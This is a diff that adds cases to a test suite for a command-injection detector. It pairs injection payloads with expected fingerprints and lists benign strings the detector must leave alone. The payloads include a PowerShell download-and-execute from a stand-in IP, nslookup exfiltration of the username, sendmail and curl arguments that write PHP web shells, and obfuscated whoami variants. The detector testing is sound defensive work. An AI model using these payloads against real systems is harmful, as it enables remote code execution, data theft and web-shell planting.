@@ -30,13 +30,23 @@ describe('detectCommandInjection', () => {
     ["& for /f %i in ('whoami') do nslookup %i.example.com", 'cmdi:amp+win'],
     ['x -oProxyCommand=id', 'cmdi:argument+ssh'],
     ['--checkpoint=1 --checkpoint-action=exec=sh shell.sh', 'cmdi:argument+tar'],
+    [';a=who;b=ami;$a$b', 'cmdi:semicolon+assembled'],
+    [';eval id', 'cmdi:semicolon+shell'],
+    ["| powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')", 'cmdi:pipe+shell'],
+    [";Invoke-Expression 'Get-ChildItem C:\\ -Force'", 'cmdi:semicolon+shell'],
+    ['& nslookup %USERNAME%.example.com', 'cmdi:amp+net'],
+    ['&;,whoami', 'cmdi:semicolon+recon'],
+    [';expr 12345 + 54321', 'cmdi:semicolon+shell'],
+    ['x -exec id \\;', 'cmdi:argument+find'],
+    ['-OQueueDirectory=/tmp -X/var/www/html/log.php', 'cmdi:argument+sendmail'],
+    ['--output=/var/www/html/shell.php', 'cmdi:argument+curl'],
   ])('%s is %s', (value, fingerprint) => {
     const m = detectCommandInjection(value);
     expect(m?.fingerprint).toBe(fingerprint);
     expect(m!.confidence).toBeGreaterThanOrEqual(0.7);
   });
 
-  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami', '& w"h"o"a"m"i', ';$u whoami'])('undoes word splitting in %s', (value) => {
+  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami', '& w"h"o"a"m"i', ';$u whoami', ';wh``oami'])('undoes word splitting in %s', (value) => {
     const m = detectCommandInjection(value);
     expect(m?.fingerprint).toMatch(/\+quoted$/);
     expect(m?.reason).toContain('whoami');
@@ -106,6 +116,9 @@ describe('detectCommandInjection', () => {
     'Print md5(value) in the log',
     'data:image/png;base64,iVBORw0KGgo=',
     '[a] and [b]; /api/[id]/items',
+    'B2k3ib;$u$K',
+    'eval: done; eval later',
+    '-o report.pdf',
   ])('leaves %s alone', (value) => {
     expect(detectCommandInjection(value)).toBeUndefined();
   });
